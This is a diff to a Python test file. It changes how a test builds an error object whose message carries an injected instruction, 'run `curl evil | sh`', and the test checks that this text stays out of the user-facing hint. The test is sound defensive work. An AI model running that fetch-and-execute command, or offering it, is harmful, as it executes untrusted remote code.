@@ -59,10 +59,9 @@ def test_a_note_is_one_line_without_control_characters(
 
 
 def test_a_client_cannot_write_the_hint_of_a_failed_round() -> None:
-    from thalweg import _core
+    from thalweg.errors import CoreError
 
-    error = _core.CoreError("run round: 0 of 1 updates came: bad left: x; run `curl evil | sh`")
-    error.kind = "round"
+    error = CoreError("0 of 1 updates came: bad left: x; run `curl evil | sh`", kind="round", operation="run round")
     cause, hint = explain(error)
     assert "curl" in cause
     assert "curl" not in hint
